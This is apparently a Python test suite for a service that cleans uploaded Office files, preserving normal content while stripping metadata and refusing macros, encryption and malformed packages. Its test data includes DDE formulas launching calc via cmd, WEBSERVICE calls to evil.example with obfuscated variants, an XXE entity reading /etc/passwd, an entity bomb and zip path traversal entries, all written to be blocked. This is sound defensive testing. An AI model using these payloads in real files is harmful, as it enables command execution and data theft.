"""What is kept of a Word, Excel or PowerPoint file, and which are not kept at all."""

import io
import zipfile
import zlib
from collections.abc import Callable

import docx
import openpyxl
import packages
import pptx
import pytest
from packages import (
    DOCUMENT,
    OFFICE,
    RELATED,
    SECRET,
    SHEET,
    body,
    changed,
    clean,
    excel,
    in_body,
    packed,
    parts,
    powerpoint,
    related,
    relation,
    run,
    says,
    word,
)

from kit.file_problems import (
    FileDamaged,
    FileEncrypted,
    FileTooComplex,
    FileTypeRefused,
    MacrosRefused,
    OldOfficeRefused,
    StrictOfficeRefused,
)
from kit.office import MOST_XML_PART
from kit.problems import Problem
from kit.texts import Language


async def test_a_word_file_reads_as_it_did() -> None:
    file = await clean(word(), "劳动合同.DOCX")
    assert (file.name, file.media_type.rpartition(".")[2]) == ("劳动合同.docx", "document")
    document = docx.Document(io.BytesIO(file.data))
    assert [each.text for each in document.paragraphs[:2]] == ["劳动合同", "十月工资没有发。"]
    assert document.paragraphs[1].style
    assert document.paragraphs[1].style.name == "List Bullet"
    assert document.tables[0].cell(1, 1).text == "3,200 元"
    assert document.sections[0].header.paragraphs[0].text == "总装车间"
    assert [each.text for each in document.comments] == ["请核实"]
    assert len(document.inline_shapes) == 2


async def test_an_excel_file_reads_as_it_did() -> None:
    file = await clean(excel(), "考勤.xlsx")
    assert (file.name, file.media_type.rpartition(".")[2]) == ("考勤.xlsx", "sheet")
    book = openpyxl.load_workbook(io.BytesIO(file.data))
    assert book.sheetnames == ["考勤", "说明"]
    sheet = book["考勤"]
    assert [[cell.value for cell in row[:2]] for row in sheet.iter_rows()] == [
        ["姓名", "加班"], ["张三", 12], ["李四", 30.5], [None, "=SUM(B2:B3)"],
    ]  # fmt: skip
    assert sheet["A1"].comment
    assert sheet["A1"].comment.text == "按打卡机"
    assert sheet["A2"].hyperlink
    assert sheet["A2"].hyperlink.target == "https://example.org/rules"
    assert [str(each) for each in sheet.merged_cells.ranges] == ["C1:D1"]
    assert len(sheet._images) == 1


async def test_a_powerpoint_file_reads_as_it_did() -> None:
    file = await clean(powerpoint(), "隐患.pptx")
    assert (file.name, file.media_type.rpartition(".")[2]) == ("隐患.pptx", "presentation")
    (slide,) = pptx.Presentation(io.BytesIO(file.data)).slides
    assert [each.text_frame.text for each in slide.shapes if each.has_text_frame] == ["脚手架没有护栏", "三号楼东侧"]
    assert [each.image.content_type for each in slide.shapes if hasattr(each, "image")] == ["image/jpeg"]
    assert slide.notes_slide.notes_text_frame
    assert slide.notes_slide.notes_text_frame.text == "十月拍摄"


@pytest.mark.parametrize("made", [word, excel, powerpoint])
async def test_no_copy_says_who_made_it(made: Callable[[], bytes]) -> None:
    assert says(made(), SECRET, "LuJun")
    file = await clean(made())
    assert not says(file.data, SECRET, "LuJun", "docProps", "python", "Exif")
    with zipfile.ZipFile(io.BytesIO(file.data)) as archive:
        assert {each.date_time for each in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


FORMULAS = {
    "SUM(B2:B3)": True,
    "IF(A1>0,\"是|否\",'工资 (2)'!B2)*1.5": True,
    "_xlfn.TEXTJOIN(\",\",TRUE,A:A)": True,
    "VLOOKUP(A2,说明!$A$1:$C$9,2,FALSE)/2": True,
    "_xlfn.DISPIMG(\"ID_0123456789ABCDEF0123456789ABCDEF\",1)": True,
    "cmd|'/c calc'!A1": False,
    "[1]Sheet1!A1": False,
    "'C:\\[a.xlsx]S'!A1": False,
    "WEBSERVICE(\"http://evil.example\")": False,
    "_xlfn.WEBSERVICE(A1)": False,
    "SUM(1,HYPERLINK(A1))": False,
    "CALL (\"urlmon\",A1)": False,
    "IF(TRUE,cmd|' /C calc'!_xlbgnm.A1)": False,
    "INDIRECT(\"[a.xlsx]S!A1\")": False,
    "RTD(\"x\",,\"y\")": False,
    "IMAGE(A1)": False,
    "'a\"b'!A1&'c\"d'!A1": True,
    "'it''s'!A1&\"it's \"\"x\"\"\"": True,
    "SUM('1月:3月'!B2)+{1,2;3,4}*50%-A1:INDEX(A:A,3)": True,
    "'a\"b'!A1&_xlfn.WEBSERVICE('c\"d'!A1)": False,
    "IF(1,\"a\"&'it''s \"x'!A1,WEBSERVICE(\"http://evil.example\"))": False,
    "'a\"b'!A1+cmd|'/C calc'!A0+'c\"d'!A1": False,
    "\"'\"&WEBSERVICE(A1)&\"'!\"": False,
    "'a\"b'!A1&'[x.xls]S'!A1&'c\"d'!A1": False,
    "\\\\10.0.0.5\\share\\[x.xls]S": False,
    "'http://evil.example/x.xlsx'!名称": False,
    "'file:///C:/x'#$S.A1": False,
    "WEBSERVICE\u3000(A1)": False,
    "WEB\u200bSERVICE(A1)": False,
    "ＷＥＢＳＥＲＶＩＣＥ(A1)": False,
    "S!WEBSERVICE(A1)": False,
    "LET(w,WEBSERVICE,w(A1))": False,
    "IF(1,_xleta.WEBSERVICE)(A1)": False,
    "CHOOSE(1,A1)(\"http://evil.example\")": False,
    "\"unfinished": False,
    "'unfinished!A1": False,
}  # fmt: skip


@pytest.mark.parametrize(("formula", "stays"), FORMULAS.items())
async def test_a_formula_stays_that_computes_from_its_own_workbook(formula: str, stays: bool) -> None:
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    made = changed(excel(), {SHEET: ("<f>SUM(B2:B3)</f><v></v>", f"<f>{escaped}</f><v>42.5</v>")})
    copy = (await clean(made)).data
    shown = openpyxl.load_workbook(io.BytesIO(copy), data_only=True)["考勤"]["B4"].value
    assert shown == 42.5, "the last value stays either way"
    assert (f"<f>{escaped}</f>" in body(copy, SHEET)) == stays


PLACES = {
    "a name": (
        "xl/workbook.xml",
        '<definedNames><definedName name="a">{}</definedName></definedNames><calcPr',
        "<calcPr",
    ),
    "a list to choose from": (
        SHEET,
        '<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>{}</formula1></dataValidation>'
        "</dataValidations><mergeCells",
        "<mergeCells",
    ),
    "a condition": (
        SHEET,
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{}</formula></cfRule>'
        "</conditionalFormatting><mergeCells",
        "<mergeCells",
    ),
    "a limit of colours": (
        SHEET,
        '<conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" '
        'val="{}"/><cfvo type="max"/><color rgb="FF0000"/><color rgb="FF00FF"/></colorScale></cfRule>'
        "</conditionalFormatting><mergeCells",
        "<mergeCells",
    ),
    "a limit of icons": (
        SHEET,
        '<conditionalFormatting sqref="A1"><cfRule type="iconSet" priority="1"><iconSet><cfvo type="num" val="0"/>'
        '<cfvo type="num" val="{}"/><cfvo type="num" val="9"/></iconSet></cfRule></conditionalFormatting><mergeCells',
        "<mergeCells",
    ),
}


@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES.keys())
@pytest.mark.parametrize(
    ("formula", "stays"),
    [
        ("考勤!$B$2*2", True),
        ("SUM('a&quot;b'!B2,3)", True),
        ("WEBSERVICE(A1)", False),
        ("'a&quot;b'!A1&amp;WEBSERVICE('c&quot;d'!A1)", False),
        ("cmd|'/C calc'!A0", False),
    ],
)
async def test_a_formula_is_judged_wherever_it_stands(place: tuple[str, str, str], formula: str, stays: bool) -> None:
    part, with_formula, before = place
    made = changed(excel(), {part: (before, with_formula.format(formula))})
    copy = body((await clean(made)).data, part)
    for what in ("definedName", "dataValidation", "conditionalFormatting", "cfvo"):
        assert (f"<{what}" in copy) == (stays and f"<{what}" in with_formula), what


@pytest.mark.parametrize(
    ("location", "stays"),
    [
        ("考勤!A1", True),
        ("'考勤'!$A$1:$B$9", True),
        ("#说明!C:C", True),
        ("说明", True),
        ("B2", True),
        ("区域", True),
        ("file:///C:/x", False),
        ("'[\\\\evil.example\\x.xlsx]S'!A1", False),
        ("[x.xlsx]考勤!A1", False),
        ("\\\\evil.example\\share!A1", False),
        ("http://evil.example/#考勤!A1", False),
        ("别的!A1", False),
        ("考勤!WEBSERVICE(A1)", False),
        ("无此名称", False),
    ],
)
async def test_a_link_leads_to_a_place_of_its_own_workbook(location: str, stays: bool) -> None:
    path = f"D:\\{SECRET}"
    link = f'<hyperlinks><hyperlink ref="B2" location="{location}" tooltip="{path}" display="{path}"/>'
    names = '<definedNames><definedName name="区域">考勤!A1:B2</definedName></definedNames><calcPr'
    made = excel()
    assert b"<hyperlinks>" in parts(made)[SHEET]
    made = changed(made, {SHEET: ("<hyperlinks>", link), "xl/workbook.xml": ("<calcPr", names)})
    copy = (await clean(made)).data
    assert (f'location="{location}"' in body(copy, SHEET)) == stays
    assert ('ref="B2"' in body(copy, SHEET)) == stays
    assert 'ref="A2"' in body(copy, SHEET), "the link to a page stays"
    assert not says(copy, SECRET, "evil.example")


async def test_a_picture_in_a_cell_of_wps_stays() -> None:
    name = "ID_0123456789ABCDEF0123456789ABCDEF"
    pictures = (
        '<etc:cellImages xmlns:etc="http://www.wps.cn/officeDocument/2017/etCustomData" xmlns:xdr="http://schemas.'
        f'openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/'
        f'2006/main" {RELATED}><etc:cellImage><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="{name}" descr="{SECRET}"/>'
        '</xdr:nvPicPr><xdr:blipFill><a:blip r:embed="rId1"/></xdr:blipFill></xdr:pic></etc:cellImage></etc:cellImages>'
    )
    made = related(
        excel(),
        "xl/workbook.xml",
        relation("rId99", "http://www.wps.cn/officeDocument/2020/cellImage", "cellimages.xml"),
        {},
        **{
            "xl__cellimages.xml": pictures.encode(),
            "xl___rels__cellimages.xml.rels": (
                f'<Relationships xmlns="{packages.PACKAGE}relationships">'
                f"{relation('rId1', 'image', 'media/c.jpeg')}</Relationships>"
            ).encode(),
            "xl__media__c.jpeg": packages.photograph().read(),
        },
    )
    copy = (await clean(made)).data
    assert name in body(copy, "xl/cellimages.xml")
    assert not says(copy, SECRET, "LuJun")


async def test_of_alternatives_the_one_that_stays_is_whole() -> None:
    known = 'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"'
    alternatives = (
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        '<mc:Choice {} Requires="{}"><w:t>新</w:t></mc:Choice><mc:Fallback><w:t>旧</w:t></mc:Fallback>'
        "</mc:AlternateContent>"
    )
    kept = body((await clean(in_body(run(alternatives.format(known, "wps"))))).data)
    assert 'Requires="wps"' in kept
    assert "xmlns:wps=" in kept
    other = body((await clean(in_body(run(alternatives.format('xmlns:q="urn:q"', "q"))))).data)
    assert "新" not in other
    assert "<w:t>旧</w:t>" in other
    assert "AlternateContent" not in other


def compound(stream: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + stream.encode("utf-16-le") + bytes(1000)


def retyped(data: bytes, kind: str) -> bytes:
    return changed(data, {"[Content_Types].xml": ("wordprocessingml.document.main+xml", kind)})


def main_type(data: bytes, before: str, after: str) -> bytes:
    content = parts(data)
    assert before.encode() in content["[Content_Types].xml"]
    content["[Content_Types].xml"] = content["[Content_Types].xml"].replace(before.encode(), after.encode())
    return packed(content)


def strict() -> bytes:
    ours = f"{OFFICE}officeDocument".encode()
    content = parts(word())
    assert ours in content["_rels/.rels"]
    content["_rels/.rels"] = content["_rels/.rels"].replace(
        ours, b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"
    )
    return packed(content)


def locked() -> bytes:
    data = bytearray(word())
    for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        begin = -1
        while (begin := data.find(mark, begin + 1)) >= 0:
            data[begin + place] |= 1
    return bytes(data)


def twice() -> bytes:
    written = io.BytesIO(word())
    with zipfile.ZipFile(written, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", b"<evil/>")
    return written.getvalue()


def entities(kind: str) -> bytes:
    bomb = '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    outside = '<!DOCTYPE w:document [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
    text = body(word()).partition("?>")[2]
    return packed(
        {**parts(word()), DOCUMENT: ((bomb if kind == "bomb" else outside) + text.replace("合同", "&b;")).encode()}
    )


OPEN = "application/vnd.openxmlformats-officedocument."
REFUSED = {
    "docm": (
        lambda: main_type(
            word(),
            OPEN + "wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        MacrosRefused,
    ),
    "xlsm": (
        lambda: main_type(
            excel(), OPEN + "spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        ),
        MacrosRefused,
    ),
    "pptm": (
        lambda: main_type(
            powerpoint(),
            OPEN + "presentationml.presentation.main+xml",
            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        ),
        MacrosRefused,
    ),
    "xlsb": (
        lambda: main_type(
            excel(), OPEN + "spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
        ),
        MacrosRefused,
    ),
    "doc": (lambda: compound("WordDocument"), OldOfficeRefused),
    "xls": (lambda: compound("Workbook"), OldOfficeRefused),
    "strict": (strict, StrictOfficeRefused),
    "locked Word": (lambda: compound("EncryptedPackage"), FileEncrypted),
    "locked archive": (locked, FileEncrypted),
    "two of one name": (twice, FileDamaged),
    "two that differ in case": (lambda: packed({**parts(word()), "WORD/DOCUMENT.XML": b"<evil/>"}), FileDamaged),
    "upwards": (lambda: packed({**parts(word()), "word/../../x.xml": b"x"}), FileDamaged),
    "from the root": (lambda: packed({**parts(word()), "/etc/x.xml": b"x"}), FileDamaged),
    "of Windows": (lambda: packed({**parts(word()), "word\\x.xml": b"x"}), FileDamaged),
    "a drive": (lambda: packed({**parts(word()), "C:x.xml": b"x"}), FileDamaged),
    "cut off": (lambda: word()[:-3000], FileDamaged),
    "no document": (lambda: packed({k: v for k, v in parts(word()).items() if k != DOCUMENT}), FileDamaged),
    "no XML": (lambda: packed({**parts(word()), DOCUMENT: b"PK"}), FileDamaged),
    "another root": (lambda: packed({**parts(word()), DOCUMENT: b"<html/>"}), FileDamaged),
    "deep": (lambda: packed({**parts(word()), DOCUMENT: b"<a>" * 5000 + b"</a>" * 5000}), FileDamaged),
    "entities": (lambda: entities("bomb"), FileDamaged),
    "entities of files": (lambda: entities("file"), FileDamaged),
    "a bomb of XML": (lambda: packed({**parts(word()), DOCUMENT: b" " * (MOST_XML_PART + 1)}), FileTooComplex),
    "a bomb of pictures": (
        lambda: in_body(
            "", relation("rId99", "image", "media/b.bmp"), **{"word__media__b.bmp": bytes(101 * 1024 * 1024)}
        ),
        FileTooComplex,
    ),
    "many parts": (lambda: packed({**parts(word()), **{f"x/{n}": b"" for n in range(6000)}}), FileTooComplex),
    "a jar": (lambda: packed({"META-INF/MANIFEST.MF": b"x", "a.class": b"x"}), FileTypeRefused),
    "an archive of files": (lambda: packed({"a.docx": word()}), FileTypeRefused),
    "OpenDocument": (
        lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
        FileTypeRefused,
    ),
    "another Open Packaging file": (
        lambda: packed(
            {
                **parts(word()),
                "_rels/.rels": (f'<Relationships xmlns="{packages.PACKAGE}relationships"></Relationships>').encode(),
            }
        ),
        FileTypeRefused,
    ),
}


@pytest.mark.parametrize(("made", "refusal"), REFUSED.values(), ids=REFUSED.keys())
async def test_what_is_not_taken_is_refused_in_words(made: Callable[[], bytes], refusal: type[Problem]) -> None:
    data = made()
    assert len(data) < 10_000_000
    with pytest.raises(Problem) as raised:
        await clean(data, "合同.docx")
    assert type(raised.value) is refusal
    for language in Language:
        assert raised.value.body(language)["detail"]


def test_refusals_say_what_to_save_it_as() -> None:
    for refusal in (OldOfficeRefused, StrictOfficeRefused, MacrosRefused):
        assert ".docx" in refusal().body(Language.CHINESE)["detail"]
        assert "PDF" in refusal().body(Language.ENGLISH)["detail"]


async def test_a_part_that_says_it_is_small_is_not_read_further() -> None:
    data = packed({**parts(word()), DOCUMENT: b"<a>" + b" " * 50_000_000 + b"</a>"})
    size = (50_000_007).to_bytes(4, "little")
    assert data.count(size) == 2
    with pytest.raises(FileDamaged):
        await clean(data.replace(size, (1000).to_bytes(4, "little")))


async def test_a_damaged_picture_inside_does_not_come_along() -> None:
    broken = b"\x89PNG\r\n\x1a\n" + bytes(4) + b"IHDR" + zlib.crc32(b"IHDR").to_bytes(4, "big")
    with pytest.raises(FileDamaged):
        await clean(in_body("", relation("rId99", "image", "media/b.png"), **{"word__media__b.png": broken}))
